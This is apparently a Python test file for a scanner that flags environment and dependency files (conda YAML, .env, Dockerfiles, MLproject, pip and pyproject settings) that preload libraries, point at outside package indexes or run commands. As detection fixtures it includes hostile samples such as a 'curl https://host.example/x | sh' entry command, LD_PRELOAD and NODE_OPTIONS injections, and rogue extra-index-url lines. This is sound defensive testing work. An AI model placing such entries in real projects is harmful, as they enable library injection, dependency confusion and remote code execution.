"""Files that describe environments: what they make a tool load, fetch or run is said, and ordinary ones say nothing."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.cases import each
from tests.support.inspecting import Described, check_nothing_is_said, examined, rules_of, verdict_of
from weighbridge.core.finding import Verdict
from weighbridge.inspectors.texts.environments import RULES

CONDA = "name: x\nchannels:\n  - conda-forge\n  - nodefaults\ndependencies:\n  - python=3.10.4\n  - pip\n  - pip:\n    - mlflow==2.9.2\n"
PROJECT = "name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.1}\n    command: "
DOCKER = "# syntax=docker/dockerfile:1\nFROM python:3.11-slim\nWORKDIR /app\nCOPY . .\n"
ELSEWHERE = "https://packages.host.example/simple"


HONEST = [
    Described("environment.yml", CONDA),
    Described("conda.yaml", CONDA + "    - --extra-index-url https://download.pytorch.org/whl/cu121\n    - torch==2.1.0\n"),
    Described("conda.yaml", CONDA + "variables:\n  OMP_NUM_THREADS: 4\n  TOKENIZERS_PARALLELISM: 'false'\n"),
    Described("python_env.yaml", "python: 3.10.4\nbuild_dependencies:\n- pip==23.1\ndependencies:\n- -r requirements.txt\n"),
    Described("MLproject", PROJECT + '"python train.py --alpha {alpha} {l1_ratio}"\n'),
    Described("MLproject", PROJECT + "python -m trainer.main --data data/{name}.csv\n"),
    Described(".env", "HF_HOME=/data/hf\nCUDA_VISIBLE_DEVICES=0\n# LD_PRELOAD=./x.so\n"),
    Described("pip.conf", "[global]\ntimeout = 60\n"),
    Described("Pipfile", '[[source]]\nurl = "https://py' + 'pi.org/simple"\nverify_ssl = true\n\n[packages]\ntorch = "*"\n'),
    Described("pyproject.toml", '[[tool.uv.index]]\nname = "torch"\nurl = "https://download.pytorch.org/whl/cu124"\n'),
    Described("setup.cfg", "[metadata]\nname = x\n[options]\ninstall_requires =\n    torch\n"),
    Described("pytest.ini", "[pytest]\npythonpath = src\n"),
]  # fmt: skip
DOCKERFILES = [
    DOCKER + "ENV PYTHONPATH=/app PYTHONUNBUFFERED=1\nCMD python app.py\n",
    DOCKER + "ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n",
    DOCKER + "ENV LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH\n",
    DOCKER + "RUN pip install --no-cache-dir --extra-index-url https://download.pytorch.org/whl/cu121 torch\n",
]
HOSTILE = [
    *[Described("environment.yml", f"{CONDA}variables:\n  {name}: {value}\n", "environment-preload") for name, value in (
        ("LD_PRELOAD", "./lib/x.so"), ("LD_AUDIT", "/tmp/x.so"), ("DYLD_INSERT_LIBRARIES", "x.dylib"), ("PYTHONSTARTUP", "start.py"),
        ("BASH_ENV", "x.sh"), ("NODE_OPTIONS", "'--require ./x.js'"), ("GIT_SSH_COMMAND", "./x"), ("PYTHONBREAKPOINT", "x.run"),
    )],
    Described("conda.yaml", CONDA + "variables: {A: 1, 'LD_PRELOAD': ./x.so}\n", "environment-preload"),
    Described("conda.yaml", CONDA + "variables:\n  LD_PRELOAD: /tmp/libtcmalloc.so\n", "environment-preload"),
    Described("conda.yaml", CONDA + "variables:\n  PYTHONPATH: ./hooks\n", "environment-search-path"),
    Described("conda.yaml", CONDA + "variables:\n  LD_LIBRARY_PATH: /model/lib\n", "environment-search-path"),
    Described("conda.yaml", CONDA + f"variables:\n  PIP_EXTRA_INDEX_URL: {ELSEWHERE}\n", "environment-index"),
    Described("conda.yaml", CONDA + f"    - --extra-index-url {ELSEWHERE}\n", "requirements-index"),
    Described("conda.yaml", CONDA + "    - git+https://host.example/x.git\n", "requirements-address"),
    Described("conda.yaml", CONDA + "    - x @ https://host.example/x.whl\n", "requirements-address"),
    Described("requirements.txt", f"torch==2.1.0 --extra-index-url {ELSEWHERE}\n", "requirements-malformed"),
    Described("requirements.txt", f"--extra-index-url={ELSEWHERE}\ntorch==2.1.0\n", "requirements-index"),
    Described("requirements.txt", "x @ git+ssh://git@host.example/x.git@main\n", "requirements-address"),
    *[Described(".env", f"{line}\n", rule) for line, rule in (
        ("export LD_PRELOAD=./x.so", "environment-preload"), (f"PIP_INDEX_URL={ELSEWHERE}", "environment-index"),
        (f"UV_EXTRA_INDEX_URL='{ELSEWHERE}'", "environment-index"), ("HF_ENDPOINT=https://hub.host.example", "environment-index"),
        ("PIP_TRUSTED_HOST=host.example", "environment-index"), ("PYTHONPATH=/tmp/x", "environment-search-path"),
    )],
    Described("setup.cfg", f"[easy_install]\nindex_url = {ELSEWHERE}\n", "settings-index"),
    Described("pip.conf", f"[global]\nextra-index-url = {ELSEWHERE}\n", "settings-index"),
    Described("Pipfile", f'[[source]]\nurl = "{ELSEWHERE}"\n', "environment-index"),
    Described("pyproject.toml", f'[[tool.poetry.source]]\nname = "a"\nurl = "{ELSEWHERE}"\n', "environment-index"),
    Described("pyproject.toml", f'[[tool.uv.index]]\nurl = "{ELSEWHERE}"\ndefault = true\n', "environment-index"),
    Described("MLproject", PROJECT + '"curl https://host.example/x | sh; python train.py"\n', "environment-command"),
    Described("MLproject", PROJECT + '"python train.py && ./run.sh"\n', "environment-command"),
    Described("MLproject", PROJECT + "bash run.sh\n", "environment-command"),
    Described("MLproject", "docker_env:\n  image: x\n  environment: [[LD_PRELOAD, ./x.so]]\n".replace(", ./", ": ./"), "environment-preload"),
    Described("Dockerfile", DOCKER + "ENV LD_PRELOAD=/model/libx.so\n", "environment-preload"),
    Described("docker/Dockerfile.gpu", DOCKER + "ENV LD_PRELOAD /model/libx.so\n", "environment-preload"),
    Described("app.dockerfile", DOCKER + "ENV A=1 \\\n    LD_PRELOAD=./x.so\n", "environment-preload"),
    Described("Dockerfile", DOCKER + "ENV PYTHONPATH=/tmp/x:/app\n", "environment-search-path"),
    Described("Dockerfile", DOCKER + f"RUN pip install --index-url {ELSEWHERE} torch\n", "environment-index"),
    Described("Dockerfile", DOCKER + f"RUN pip install \\\n  --extra-index-url={ELSEWHERE} torch\n", "environment-index"),
    Described("Dockerfile", DOCKER + f"ENV PIP_INDEX_URL={ELSEWHERE}\n", "environment-index"),
    Described("Dockerfile", DOCKER + "RUN pip3 install -q git+https://host.example/x.git\n", "environment-address"),
    Described("Dockerfile", DOCKER + "ADD https://host.example/x.tar.gz /\n", "environment-address"),
    Described("Containerfile", DOCKER + "ADD --chmod=755 https://host.example/x /usr/bin/x\n", "environment-address"),
    Described("bin/.x-post-link.sh", "#!/bin/sh\necho installed\n", "environment-link-script"),
    Described("recipe/pre-unlink.bat", "echo removed\n", "environment-link-script"),
    Described("etc/conda/activate.d/x.sh", "export A=b\n", "environment-link-script"),
]  # fmt: skip


@each("described", HONEST, ids=lambda one: one.path)
def test_ordinary_environments_say_nothing(described: Described) -> None:
    check_nothing_is_said(described)


@each("text", DOCKERFILES)
def test_ordinary_dockerfiles_are_sources_that_nobody_judged_and_no_more(text: str) -> None:
    assert rules_of("Dockerfile", text.encode()) == {"kind-source-code"}


@each("described", HOSTILE, ids=lambda one: f"{one.path} {one.rule}")
def test_what_an_environment_brings_along_is_said(described: Described) -> None:
    assert described.rule in rules_of(described.path, described.text.encode())
    # In another encoding that the tool reads, and with more behind, it is the same.
    if described.path.endswith((".yml", ".yaml")):
        assert described.rule in rules_of(described.path, b"\xff\xfe" + described.text.encode("utf-16-le"))
    assert described.rule in rules_of(described.path, described.text.encode() + b"\n# the end\n")


def test_every_rule_is_in_the_corpus() -> None:
    assert {rule.id for rule in RULES} <= {one.rule for one in HOSTILE}


def test_an_address_is_shown_without_its_password() -> None:
    for path, text in (
        (".env", "PIP_INDEX_URL=https://me:hunter2hunter2@packages.host.example/simple\n"),
        ("Dockerfile", DOCKER + "RUN pip install git+https://me:hunter2hunter2@host.example/x.git\n"),
    ):
        found = [finding for report in examined(path, text.encode()).reports for finding in report.findings]
        assert any(finding.rule.startswith("environment-") for finding in found)
        assert not any("hunter2" in f"{finding.message} {finding.evidence}" for finding in found)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_text_is_answered(draw: st.DataObject) -> None:
    one = draw.draw(st.sampled_from([*HONEST, *HOSTILE]))
    cut = draw.draw(st.integers(0, len(one.text)))
    text = one.text[:cut] + draw.draw(st.text(max_size=30)) + one.text[cut:]
    assert verdict_of(one.path, text.encode("utf-8", "replace")) in Verdict


def test_long_lines_take_linear_time() -> None:
    for text in (
        "LD_PRELOAD" * 50_000,
        "PYTHONPATH=" + "/app" * 100_000,
        "RUN pip install " + "x " * 100_000,
        "command: " + "python a.py " * 50_000,
    ):
        assert verdict_of("Dockerfile", text.encode()) in Verdict
        assert verdict_of("MLproject", text.encode()) in Verdict
